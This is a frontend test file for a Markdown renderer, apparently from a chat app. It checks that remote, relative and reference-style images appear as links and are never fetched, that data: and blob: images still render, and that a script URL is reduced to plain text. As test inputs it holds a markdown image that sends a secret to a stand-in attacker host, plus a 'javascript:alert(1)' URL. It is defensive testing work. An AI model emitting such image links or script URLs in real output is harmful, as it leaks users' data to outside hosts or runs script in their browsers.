import { screen } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { renderWithProviders } from "@/test/render";
import { Markdown } from "./Markdown";

const PNG =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

function render(text: string) {
  return renderWithProviders(<Markdown text={text} />).container;
}

describe("Markdown images", () => {
  it("shows a remote image as a link to it and never puts it in an <img>", () => {
    const container = render("Here: ![the secret](https://attacker.example/leak?q=s3cret) done");
    expect(container.querySelector("img")).toBeNull();
    const link = screen.getByRole("link", { name: /the secret/ });
    expect(link).toHaveAttribute("href", "https://attacker.example/leak?q=s3cret");
    expect(link).toHaveAttribute("target", "_blank");
    expect(link).toHaveAttribute("rel", "noreferrer noopener");
    expect(link).toHaveAttribute("data-remote-image");
  });

  it("names the link by its URL when the image has no alt text", () => {
    const container = render("![](http://attacker.example/a.png)");
    expect(container.querySelector("img")).toBeNull();
    expect(
      screen.getByRole("link", { name: /http:\/\/attacker\.example\/a\.png/ }),
    ).toHaveAttribute("href", "http://attacker.example/a.png");
  });

  it("does not fetch relative, protocol-relative or reference-style images either", () => {
    const container = render(
      [
        "![a](/api/projects)",
        "![b](//attacker.example/x.png)",
        "![c][ref]",
        "",
        "[ref]: https://attacker.example/r.png",
      ].join("\n\n"),
    );
    expect(container.querySelector("img")).toBeNull();
    expect(screen.getByRole("link", { name: /c/ })).toHaveAttribute(
      "href",
      "https://attacker.example/r.png",
    );
  });

  it("keeps an image inside a link as the link's text (no link inside a link)", () => {
    const container = render(
      "[![badge](https://attacker.example/b.svg)](https://example.com/docs)",
    );
    expect(container.querySelector("img")).toBeNull();
    const links = container.querySelectorAll("a");
    expect(links).toHaveLength(1);
    expect(links[0]).toHaveAttribute("href", "https://example.com/docs");
    expect(links[0]).toHaveTextContent("badge");
  });

  it("drops a script URL to plain text", () => {
    const container = render("![click](javascript:alert(1))");
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("a")).toBeNull();
    expect(container).toHaveTextContent("click");
  });

  it("still renders images carried in the message itself (data:, blob:)", () => {
    const container = render(
      `![pixel](${PNG}) and ![local](blob:http://localhost:8000/0b5d7c1e-1111-4f5e-9e3a-000000000000)`,
    );
    const images = [...container.querySelectorAll("img")];
    expect(images.map((i) => i.getAttribute("alt"))).toEqual(["pixel", "local"]);
    expect(images[0]?.getAttribute("src")).toBe(PNG);
    expect(images[1]?.getAttribute("src")).toMatch(/^blob:/);
  });

  it("leaves ordinary links alone", () => {
    render("[docs](https://example.com/docs)");
    const link = screen.getByRole("link", { name: "docs" });
    expect(link).toHaveAttribute("rel", "noreferrer noopener");
    expect(link).not.toHaveAttribute("data-remote-image");
  });
});
